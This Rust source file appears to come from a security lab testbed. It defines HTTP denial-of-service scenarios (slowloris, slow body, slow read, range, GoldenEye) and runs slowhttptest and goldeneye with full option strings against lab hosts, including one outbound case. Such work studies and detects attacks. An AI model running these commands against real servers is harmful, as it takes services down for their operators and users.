//! Attacks that hold the connections of a web server: slow headers, slow bodies, slow readers; and GoldenEye.

use std::time::Duration;

use lab::attacks::run_tool;
use lab::network::{INTERNET, LAN_HOST, LAN_HOST_V6};

use crate::scenario::{ATTACKER, ATTACKER_V6, INSIDE, Scenario};

/// How long one attack may take; the tool is then stopped.
const LIMIT: Duration = Duration::from_secs(20);

/// By slowhttptest: name, options, and whether over IPv6.
const SLOW: &[(&str, &str)] = &[
    ("slowloris_200", "-H -c 200 -r 60 -i 4 -l 14 -x 24 -p 3"),
    ("slowloris_60_patient", "-H -c 60 -r 6 -i 3 -l 16 -x 24 -p 3"),
    ("slowloris_400_hasty", "-H -c 400 -r 200 -i 5 -l 12 -x 10 -p 3"),
    ("slow_body_150", "-B -c 150 -r 50 -i 3 -l 14 -s 8192 -x 10 -p 3"),
    ("slow_body_40", "-B -c 40 -r 5 -i 2 -l 15 -s 4096 -x 8 -p 3"),
    ("slow_read_150", "-X -c 150 -r 50 -w 10 -y 20 -n 4 -z 32 -k 3 -l 14 -p 3"),
    ("range_100", "-R -c 100 -r 40 -a 10 -b 3000 -l 10 -p 3"),
];

/// By GoldenEye: name, options.
const GOLDENEYE: &[(&str, &str)] = &[
    ("goldeneye_40", "-w 2 -s 20 -m get"),
    ("goldeneye_200", "-w 4 -s 50 -m random"),
    ("goldeneye_8", "-w 1 -s 8 -m get"),
];

/// All of them.
pub fn scenarios() -> Vec<Scenario> {
    let slow = SLOW.iter().map(|&(name, options)| {
        Scenario::attack("http_dos", "slowhttptest", name, ATTACKER, LAN_HOST, move |s| {
            run_tool(s.attacker(), &format!("slowhttptest {options} -u http://{LAN_HOST}/film.bin"), LIMIT)
        })
    });
    let golden = GOLDENEYE.iter().map(|&(name, options)| {
        Scenario::attack("http_dos", "goldeneye", name, ATTACKER, LAN_HOST, move |s| {
            run_tool(s.attacker(), &format!("goldeneye http://{LAN_HOST}/ {options}"), Duration::from_secs(6))
        })
        .headers()
    });
    let others = [
        Scenario::attack("http_dos", "slowhttptest", "slowloris_v6", ATTACKER_V6, LAN_HOST_V6, |s| {
            let line = format!("slowhttptest -H -c 120 -r 40 -i 4 -l 12 -x 24 -p 3 -u http://[{LAN_HOST_V6}]/");
            run_tool(s.attacker(), &line, LIMIT)
        }),
        Scenario::attack("http_dos", "slowhttptest-out", "outbound_slowloris", INSIDE, INTERNET[1], |s| {
            let line = format!("slowhttptest -H -c 120 -r 40 -i 4 -l 12 -x 24 -p 3 -u http://{}/", INTERNET[1]);
            run_tool(s.lan(), &line, LIMIT)
        }),
    ];
    slow.chain(golden).chain(others).collect()
}
